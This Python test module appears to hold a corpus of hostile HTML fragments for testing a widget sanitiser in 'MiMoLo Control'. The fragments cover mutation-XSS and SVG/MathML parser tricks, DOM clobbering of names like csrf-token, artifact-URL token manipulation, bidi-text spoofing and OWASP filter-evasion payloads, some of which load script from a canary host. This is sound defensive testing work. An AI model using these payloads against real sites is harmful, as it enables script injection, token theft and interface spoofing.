"""Hostile widgets, second corpus: fragments that try to dress up as Control or escape it.

The first corpus (``hostile_fragments``) is about running script. This one is about what
issue 21 found and the families around it: Control's own classes, layout that leaves the
slot, parser differentials (mutation XSS, SVG/MathML confusion, the ``<svg><style>``
row bomb), DOM clobbering, artifact-token tricks, bidirectional text and noisy live
regions, and the OWASP filter-evasion classics. Each fragment that could run script tries
the page canaries of ``hostile_fragments.PWN``. Adding a case is one line.
"""

from __future__ import annotations

from typing import Final

from .hostile_fragments import CANARY_HOST, PWN, TOKEN

CONTROL_LOOKALIKE: Final = "Operations is unavailable. Stop all Start all Remove"
FILLER: Final = "lorem ipsum dolor sit amet " * 230  # ~6 KB, as in the probe

HOSTILE_WIDGETS: Final[tuple[tuple[str, str], ...]] = (
    # Control's own classes (the page's styles must not reach a widget)
    ("toast_overlay", f'<div class="toast">{FILLER}</div>'),
    ("toast_error", f'<div class="toast toast-error">{CONTROL_LOOKALIKE}</div>'),
    ("skip_link", '<div class="skip-link">moved 9,999 px off screen</div>'),
    ("banner_lookalike", f'<div class="banner banner-warn" role="alert">{CONTROL_LOOKALIKE}</div>'),
    ("button_lookalike", '<span class="button button-primary">Stop all</span>'),
    ("danger_button", '<a class="button button-danger">Remove</a>'),
    ("badge_lookalike", '<span class="badge badge-state-running">running</span>'),
    ("ops_pill", '<span class="ops-pill ops-up"><span class="dot"></span>Operations up</span>'),
    ("card_error", '<p class="card-error">Agent crashed: re-enter your token</p>'),
    ("refusal_box", '<div class="refusal-box"><h1>Not signed in</h1></div>'),
    ("topbar", '<header class="topbar"><span class="brand">MiMoLo Control</span></header>'),
    ("own_canvas", '<div class="widget-canvas widget-view w-frame">nested canvas</div>'),
    ("hidden_class", '<div class="hidden" hidden>hidden</div>'),
    ("mixed_classes", '<div class="w-row toast w-muted skip-link">mixed</div>'),
    ("class_case", '<div class="W-ROW Toast">case</div>'),
    ("class_tab", '<div class="w-row\ttoast">tab</div>'),
    ("class_nbsp", '<div class="toast\u00a0w-row">nbsp</div>'),
    ("class_entity", '<div class="w-row&#32;toast">entity space</div>'),
    ("class_duplicates", '<div class=" w-row  w-row w-ok ">dup</div>'),
    # layout that tries to leave the slot
    ("style_fixed", '<div style="position:fixed;inset:0;z-index:99999">cover</div>'),
    ("style_tag_fixed", "<style>*{position:fixed!important;inset:0}</style><p>x</p>"),
    ("link_css", f'<link rel="stylesheet" href="http://{CANARY_HOST}/x.css"><p>x</p>'),
    ("long_word", "<p>" + "W" * 5000 + "</p>"),
    ("nowrap_line", '<p class="w-nowrap">' + "no break here " * 300 + "</p>"),
    ("giant_heading", "<h1>" + "HEADLINE " * 200 + "</h1>"),
    ("deep_nesting", "<div>" * 500 + "deep" + "</div>" * 500),
    ("wide_table", "<table><tr>" + '<td class="w-nowrap">cell wide</td>' * 200 + "</tr></table>"),
    ("huge_title", '<span title="' + "title " * 2000 + '">t</span>'),
    ("stat_wall", '<p class="w-stat">' + "9" * 3000 + "</p>"),
    # parser differentials: mutation XSS, SVG/MathML confusion
    ("svg_style_table", "<svg><style><table><tr><td>row</td></tr></table>"),
    ("svg_style_img", f'<svg><style><img src=x onerror="{PWN}">'),
    ("math_mglyph", f'<math><mtext><table><mglyph><style><img src=x onerror="{PWN}">'),
    (
        "form_math_mxss",
        f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{PWN}">',
    ),
    ("noscript_style", f'<noscript><style></noscript><img src=x onerror="{PWN}">'),
    ("svg_p_style", f'<svg><p><style><img src=x onerror="{PWN}">'),
    ("select_template", f'<select><template><style><img src=x onerror="{PWN}">'),
    ("caption_svg", f'<table><caption><svg><style><img src=x onerror="{PWN}">'),
    ("foreignobject_p", f'<svg><foreignobject><p><style><img src=x onerror="{PWN}">'),
    ("listing", f'<listing>&lt;img src=x onerror="{PWN}"&gt;</listing>'),
    ("plaintext", f'<plaintext><img src=x onerror="{PWN}">'),
    ("nested_anchors", "<a><table><a>inner</a></table></a>"),
    ("p_table", "<p><table><tr><td><p>cell</table>"),
    ("textarea_title", f'<textarea><p title="</textarea><img src=x onerror={PWN}>">'),
    ("iframe_text", f'<iframe><img src=x onerror="{PWN}"></iframe>'),
    ("noembed_title", f'<noembed><img title="</noembed><img src onerror={PWN}>"></noembed>'),
    ("xmp_title", f'<xmp><p title="</xmp><img src=x onerror={PWN}>">'),
    ("comment_in_attr", f'<!--<img src="--><img src=x onerror="{PWN}//">'),
    ("svg_cdata", f'<svg><![CDATA[><img src=x onerror="{PWN}">]]></svg>'),
    ("math_annotation", f'<math><annotation-xml encoding="text/html"><img src onerror="{PWN}">'),
    # DOM clobbering (Control's names: csrf-token, toast, ops-banner, main, cards …)
    ("clobber_csrf", '<span name="csrf" id="csrf-token">x</span><a name="csrf">y</a>'),
    ("clobber_img_name", '<img name="csrf" id="csrf-token">'),
    ("clobber_toast", '<div id="toast" class="toast">fake toast</div>'),
    ("clobber_banner", '<div id="ops-banner">Operations is unavailable.</div>'),
    ("clobber_main", '<section id="main" tabindex="-1"><div id="cards">x</div></section>'),
    ("clobber_document", '<div name="getElementById"><p id="querySelector">q</p></div>'),
    ("clobber_form", '<form name="opsLink"><input name="available" value="0"></form>'),
    # artifact-token tricks
    ("token_traversal", f'<img src="mimolo://artifact/{TOKEN}/../../x">'),
    ("token_encoded_slash", f'<img src="mimolo://artifact/{TOKEN}%2F..%2Fx">'),
    ("token_fragment", f'<img src="mimolo://artifact/{TOKEN}#x">'),
    ("token_no_slashes", f'<img src="mimolo:artifact/{TOKEN}">'),
    ("token_triple_slash", f'<img src="mimolo:///artifact/{TOKEN}">'),
    ("token_host_case", f'<img src="mimolo://ARTIFACT/{TOKEN}">'),
    ("token_userinfo", f'<img src="mimolo://artifact/{TOKEN}@{CANARY_HOST}">'),
    ("token_other_host", f'<img src="mimolo://{CANARY_HOST}/artifact/{TOKEN}">'),
    ("token_on_span", f'<span src="mimolo://artifact/{TOKEN}">s</span>'),
    ("token_data_src", f'<img data-src="mimolo://artifact/{TOKEN}">'),
    ("token_direct_route", f'<img src="/artifacts/probe-image/{TOKEN}">'),
    ("token_loopback_url", f'<img src="http://127.0.0.1:8765/artifacts/probe-image/{TOKEN}">'),
    ("token_short", '<img src="mimolo://artifact/short">'),
    ("token_srcset", f'<img srcset="mimolo://artifact/{TOKEN} 2x, http://{CANARY_HOST}/a 1x">'),
    # bidirectional text and live regions
    ("bidi_text", "<p>invoice\u202efdp.exe</p>"),
    ("bidi_attrs", '<span title="a\u202eb" aria-label="c\u2066d\u2069" class="w-ok">t</span>'),
    ("bidi_entities", "<p>&#x202E;gnp.exe &#8238;x &#x2067;y&#x2069; &#x200F;z &#x61C;w</p>"),
    ("bidi_caption", '<figure><figcaption aria-label="\u202dshot\u202c">c</figcaption></figure>'),
    ("aria_assertive", '<p aria-live="assertive">URGENT: your session expired</p>'),
    ("aria_assertive_case", '<p aria-live="ASSERTIVE">again</p>'),
    ("aria_rude", '<p aria-live="rude">rude</p><p aria-live="off">off</p>'),
    ("aria_polite_spaced", '<p aria-live=" Polite ">polite</p>'),
    ("aria_role_alert", '<div role="alert" aria-atomic="true">alert</div>'),
    # OWASP filter-evasion classics
    ("owasp_mixed_case", f"<IMG SRC=JaVaScRiPt:{PWN}>"),
    ("owasp_decimal_entities", "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;t:1>"),
    ("owasp_no_semicolon", "<IMG SRC=&#0000106&#0000097&#0000118&#0000097script:alert(1)>"),
    ("owasp_embedded_cr", '<IMG SRC="jav&#x0D;ascript:alert(1);">'),
    ("owasp_quotes", f'<IMG """><SCRIPT>{PWN}</SCRIPT>">'),
    ("owasp_script_slash", f"<SCRIPT/XSS SRC=http://{CANARY_HOST}/x.js></SCRIPT>"),
    ("owasp_double_lt", f"<<SCRIPT>{PWN};//<</SCRIPT>"),
    ("owasp_body_chars", f"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`={PWN}>"),
    ("owasp_dynsrc", '<IMG DYNSRC="javascript:alert(1)"><IMG LOWSRC="javascript:alert(1)">'),
    ("owasp_input_image", '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">'),
    ("owasp_table_background", '<TABLE BACKGROUND="javascript:alert(1)"><TD BACKGROUND=x>'),
    ("owasp_div_bg_url", '<DIV STYLE="background-image: url(javascript:alert(1))">d</DIV>'),
    ("owasp_xml_island", f'<XML ID=I><X><C><![CDATA[<IMG SRC="javas]]>cript:{PWN}">'),
    ("owasp_import", '<HTML xmlns:xss><?import namespace="xss" implementation="x.htc">'),
    ("owasp_unclosed_img", "<IMG SRC=\"javascript:alert('XSS')\""),
    ("owasp_eval_src", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
    ("owasp_bgsound", f'<BGSOUND SRC="http://{CANARY_HOST}/a.wav">'),
)
"""``(case_id, fragment)`` pairs; ids are unique and stable (they name the test cases)."""

CASE_IDS: Final = tuple(case for case, _ in HOSTILE_WIDGETS)


def largest_widget(image_src: str, *, max_bytes: int = 64 * 1024) -> str:
    """A widget at every bound at once: 32 images, 1,000 rows, close to ``max_bytes``.

    It uses every widget class and the layouts most likely to grow: unbreakable words,
    no-wrap lines, wide tables, big figures. Images all point at ``image_src``. It leaves
    just the room the exchange of 32 references for tokens needs (the bound holds for the
    frame Operations forwards too).
    """
    images = "".join(
        f'<figure><img src="{image_src}" alt="image {i}"><figcaption>{i}</figcaption></figure>'
        for i in range(32)
    )
    rows = "".join(f'<tr><td class="w-nowrap">{i}</td><td>{"W" * 6}</td></tr>' for i in range(1000))
    head = (
        '<section class="w-grid"><h1 class="w-stat w-bad">' + "9" * 200 + "</h1>"
        '<p class="w-nowrap w-mono">' + "unbroken " * 40 + "</p>"
        '<div class="w-row w-strong w-ok w-warn w-small w-muted w-num">' + "X" * 300 + "</div>"
        "</section>"
    )
    body = f'{head}<div class="w-row">{images}</div><table class="w-compact">{rows}</table>'
    room = 32 * (len("mimolo://artifact/") + 64 - len(image_src)) + 64
    pad = max_bytes - len(body.encode("utf-8")) - len("<p></p>") - room
    assert pad > 0, "the fixed part of the largest widget is over the bound"
    return body + "<p>" + "P" * pad + "</p>"


__all__ = ["CASE_IDS", "HOSTILE_WIDGETS", "largest_widget"]
